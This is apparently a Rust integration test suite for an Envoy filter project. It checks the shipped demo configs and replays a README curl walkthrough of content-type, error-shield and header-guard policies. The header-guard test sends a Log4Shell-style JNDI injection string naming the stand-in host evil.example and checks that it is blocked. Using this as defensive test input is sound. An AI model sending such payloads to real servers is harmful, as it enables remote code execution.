//! Boots envoy/envoy.yaml itself (the `make run` and docker-compose config), on free ports, and
//! replays the README's curl walk-through against it, so the shipped config cannot drift.

mod support;

use support::*;

/// The demo config of the runtime under test (`make run` or `make run RUNTIME=native`).
fn demo_file() -> &'static str {
    match runtime() {
        Runtime::Wasm => "envoy/envoy.yaml",
        Runtime::Native => "envoy/envoy-native.yaml",
    }
}

fn start_demo() -> Envoy {
    let echo = EchoServer::start("127.0.0.1:0").expect("echo upstream");
    let yaml =
        std::fs::read_to_string(repo_root().join(demo_file())).expect("read the demo config");
    for fixed in ["port_value: 10000", "port_value: 9901", "port_value: 8081"] {
        assert!(yaml.contains(fixed), "envoy.yaml no longer has `{fixed}`");
    }
    let yaml = yaml
        .replace("port_value: 10000", "port_value: 0")
        .replace("port_value: 9901", "port_value: 0")
        .replace(
            "port_value: 8081",
            &format!("port_value: {}", echo.addr.port()),
        );
    Envoy::launch(&yaml, Some(echo))
}

#[test]
fn every_shipped_wasm_filter_fails_reload_and_holds_headers_for_the_body() {
    let yaml = std::fs::read_to_string(repo_root().join("envoy/envoy.yaml")).unwrap();
    let wasm_filters = yaml
        .matches("envoy.extensions.filters.http.wasm.v3.Wasm")
        .count();
    assert!(wasm_filters > 0);
    assert_eq!(
        yaml.matches("failure_policy: FAIL_RELOAD").count(),
        wasm_filters
    );
    assert_eq!(
        yaml.matches("allow_on_headers_stop_iteration: true")
            .count(),
        wasm_filters
    );
}

fn read_yaml(file: &str) -> serde_json::Value {
    let text = std::fs::read_to_string(repo_root().join(file)).unwrap();
    serde_norway::from_str(&text).unwrap()
}

/// The HTTP filters' names and policies, and the config with the filter list and the stats
/// tags taken out (the native module labels its counter itself).
fn filters_and_rest(mut config: serde_json::Value) -> (Vec<(String, String)>, serde_json::Value) {
    let hcm = &mut config["static_resources"]["listeners"][0]["filter_chains"][0]["filters"][0]
        ["typed_config"];
    let filters = hcm["http_filters"].take();
    let policies = filters
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let t = &f["typed_config"];
            let policy = t["config"]["configuration"]["value"]
                .as_str()
                .or(t["filter_config"]["value"].as_str())
                .unwrap_or("");
            (f["name"].as_str().unwrap().to_string(), policy.to_string())
        })
        .collect();
    config["stats_config"].take();
    (policies, config)
}

#[test]
fn the_native_demo_config_runs_the_wasm_demo_policies() {
    let (wasm, wasm_rest) = filters_and_rest(read_yaml("envoy/envoy.yaml"));
    let (native, native_rest) = filters_and_rest(read_yaml("envoy/envoy-native.yaml"));
    assert!(wasm.len() > 1);
    assert_eq!(native, wasm);
    assert_eq!(native_rest, wasm_rest);
}

#[test]
fn readme_walkthrough_content_type() {
    let e = start_demo();
    // curl -X POST localhost:10000/orders -H 'content-type: application/json' -d '{"sku":"a1","qty":2}'
    let r = e.post(
        "/orders",
        &[("content-type", "application/json")],
        br#"{"sku":"a1","qty":2}"#,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.echoed().body, r#"{"sku":"a1","qty":2}"#);
    // curl -X POST localhost:10000/orders -H 'content-type: text/plain' -d 'hello'
    e.post("/orders", &[("content-type", "text/plain")], b"hello")
        .assert_problem(415, "content_type.unsupported");
    // curl -X POST localhost:10000/orders -H 'content-type: application/json' -d '{"sku":'
    e.post(
        "/orders",
        &[("content-type", "application/json")],
        br#"{"sku":"#,
    )
    .assert_problem(400, "content_type.body_mismatch");
    // curl -X POST localhost:10000/login -d 'user=ada&password=secret'   (curl's default form type)
    let form = [("content-type", "application/x-www-form-urlencoded")];
    assert_eq!(
        e.post("/login", &form, b"user=ada&password=secret").status,
        200
    );
    // curl localhost:9901/stats/prometheus | grep portcullis
    assert_eq!(
        e.counter("content_type", "denied", "content_type.unsupported"),
        1
    );
    assert_eq!(e.counter("content_type", "allowed", "ok"), 2);
    assert_eq!(e.upstream_seen().len(), 2);
}

#[test]
fn readme_walkthrough_error_shield() {
    let e = start_demo();
    // The echo upstream plays a failing service that leaks a stack trace and its server:
    // curl -si localhost:10000/orders -H 'content-type: application/json' \
    //      -H 'x-echo-status: 500' -H 'x-echo-header: server: Apache/2.2' \
    //      -d '{"error": "java.lang.IllegalStateException at com.acme.Orders.place(Orders.java:42)"}'
    let r = e.post(
        "/orders",
        &[
            ("content-type", "application/json"),
            ("x-echo-status", "500"),
            ("x-echo-header", "server: Apache/2.2"),
        ],
        br#"{"error": "java.lang.IllegalStateException at com.acme.Orders.place(Orders.java:42)"}"#,
    );
    r.assert_problem(500, "error_shield.status");
    assert_eq!(r.header("server"), None);
    assert!(!r.text().contains("acme"));
}

#[test]
fn readme_walkthrough_header_guard() {
    let e = start_demo();
    // curl -s localhost:10000/orders -H 'x-internal-user: admin' -H 'x-jwt-sub: admin'
    let r = e.get(
        "/orders",
        &[("x-internal-user", "admin"), ("x-jwt-sub", "admin")],
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = r.echoed();
    assert_eq!(seen.header("x-internal-user"), None);
    assert_eq!(seen.header("x-jwt-sub"), None);
    assert_eq!(r.header("x-content-type-options"), Some("nosniff"));
    // curl -si localhost:10000/orders -H 'user-agent: ${jndi:ldap://evil.example/a}'
    let before = e.upstream_seen().len();
    e.get(
        "/orders",
        &[("user-agent", "${jndi:ldap://evil.example/a}")],
    )
    .assert_problem(400, "header_guard.denied_pattern");
    assert_eq!(e.upstream_seen().len(), before, "the upstream saw nothing");
}
